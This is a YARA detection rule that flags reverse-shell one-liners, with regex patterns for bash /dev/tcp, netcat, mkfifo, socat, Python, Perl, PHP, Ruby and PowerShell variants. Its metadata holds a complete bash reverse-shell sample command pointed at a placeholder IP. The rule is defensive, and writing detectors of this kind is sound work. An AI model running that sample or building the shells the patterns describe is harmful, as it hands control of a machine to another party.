/* One-liners that hand a shell of this machine to another one. */

rule Reverse_Shell
{
    meta:
        description = "Connects a shell to another machine"
        verdict = "malicious"
        severity = "critical"
        confidence = 95
        technique = "T1059.004"
        advice = "do_not_run"
        pes_sample = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"

    strings:
        $interactive = /\b(ba|z|k|da)?sh([ \t]|\\\r?\n){1,4}(-[a-z]{1,3}([ \t]|\\\r?\n){1,4}){0,3}-[a-z]{0,2}i([ \t]|\\\r?\n){0,4}([^\n]|\\\r?\n){0,40}\/dev\/(tcp|udp)\//
        $descriptor = /\/dev\/(tcp|udp)\/([^\n]|\\\r?\n){1,250}\b(ba|z|k|da)?sh\b([^\n]|\\\r?\n){0,20}(<&|>&|<>)([ \t]|\\\r?\n){0,2}[0-9$]/
        $loop = /\/dev\/(tcp|udp)\/([^\n]|\\\r?\n){1,250}while([ \t]|\\\r?\n){1,4}read([^\n]|\\\r?\n){1,250}<&/
        $netcat = /\b(nc|ncat|netcat|nc\.traditional|busybox[ \t]nc)(\.exe)?([ \t]|\\\r?\n)([^\n|;]|\\\r?\n){0,250}(-[a-z]{0,6}[ec]|--exec|--sh-exec|-c)([ \t]|\\\r?\n){1,4}["']?((\/[a-z]{1,12}){0,3}\/)?((ba|z|k|da)?sh|cmd(\.exe)?|powershell(\.exe)?)([^A-Za-z0-9_.\/-]|$)/
        $fifo = /\bmk(fifo|nod)([ \t]|\\\r?\n)[^\x00]{1,250}\b(ba|z|k|da)?sh([ \t]|\\\r?\n){1,4}-i([^\n]|\\\r?\n){0,40}\|[^;]{0,20}\b(nc|ncat|netcat|telnet|openssl)([ \t]|\\\r?\n)/
        $socat = /\bsocat([ \t]|\\\r?\n)([^\n]|\\\r?\n){0,250}\b(exec:["']{0,2}(\/[a-z\/]{1,24}\/)?|system:["']{0,2}([^\n]|\\\r?\n){0,40}\b)(ba|z|k|da)?sh\b/ nocase
        $dup2 = /\bsocket\b([^\n]|\\\r?\n){0,250}\bdup2([ \t]|\\\r?\n){0,3}\(([^\n]|\\\r?\n){0,250}(\/bin\/(ba|z|da)?sh|["'](ba|z|da)?sh["']|pty\.spawn)/
        $perl = /\buse([ \t]|\\\r?\n)Socket([^\n]|\\\r?\n){0,250}exec([ \t]|\\\r?\n){0,3}[\({]([^\n]|\\\r?\n){0,8}\b(ba|z|da)?sh\b/
        $php = /\bfsockopen([ \t]|\\\r?\n){0,3}\(([^\n]|\\\r?\n){0,250}\b(exec|shell_exec|system|passthru|proc_open)([ \t]|\\\r?\n){0,3}\(([^\n]|\\\r?\n){0,20}\b(ba|z|da)?sh\b/
        $ruby = /\bTCPSocket\.(new|open)([^\n]|\\\r?\n){0,250}(exec|IO\.popen)/
        $powershell = /net\.sockets\.tcpclient[^\n]{0,250}getstream[^\n]{0,250}(iex\b|invoke-expression)/ nocase

    condition:
        filesize < 64KB and any of them
}
